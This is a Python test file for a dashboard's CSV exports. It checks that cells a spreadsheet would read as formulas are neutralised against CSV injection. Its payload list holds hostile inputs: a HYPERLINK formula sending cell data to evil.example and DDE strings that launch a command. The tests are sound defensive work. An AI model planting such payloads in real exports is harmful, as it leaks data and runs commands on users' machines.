"""The dashboard's CSV downloads: no cell a spreadsheet would open as a formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from include.symphonics.dashboard import dry_runs, run_failures
from include.symphonics.dashboard.csv_export import FORMULA_STARTS, safe_cell

#: Text an app user or the partner could type, each a formula when a spreadsheet opens it as is.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+33612345678",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'a,"=1+1"',
]


def _cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


def _failures() -> dict[str, object]:
    rows = [
        {
            "external_id": payload,
            "ended_in": "invalid",
            "reason": payload,
            "error_code": payload,
            "http_status": 422,
            "request_id": payload,
            "attempts": 1,
            "changed_at": datetime(2026, 12, 1, tzinfo=UTC),
            "state_now": "invalid",
            "state_detail": payload,
            "symphonics_id": payload,
        }
        for payload in PAYLOADS
    ]
    return {"run_id": "r", "total": len(rows), "by_reason": {}, "rows": rows}


def _dry_run() -> dict[str, object]:
    rows = [
        {
            "external_id": p,
            "action": "refuse",
            "state": p,
            "reason": p,
            "fields": [p, "x"],
            "new_documents": 0,
            "calls": 0,
        }
        for p in PAYLOADS
    ]
    return {"run_id": "d", "rows": rows}


@pytest.mark.parametrize(
    "exported",
    [run_failures.as_csv(_failures()), dry_runs.as_csv(_dry_run())],
    ids=["run_failures", "dry_run"],
)
def test_no_cell_read_back_starts_like_a_formula(exported: str) -> None:
    cells = _cells(exported)

    assert len(cells) > len(PAYLOADS)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    # The text is kept, behind the quote a spreadsheet shows as text.
    assert "'" + PAYLOADS[0] in cells


def test_numbers_and_ordinary_text_are_left_as_they_are() -> None:
    assert safe_cell(-1) == -1
    assert safe_cell(None) is None
    assert safe_cell("int_000001") == "int_000001"
    assert safe_cell("2026-12-01T00:00:00+00:00") == "2026-12-01T00:00:00+00:00"
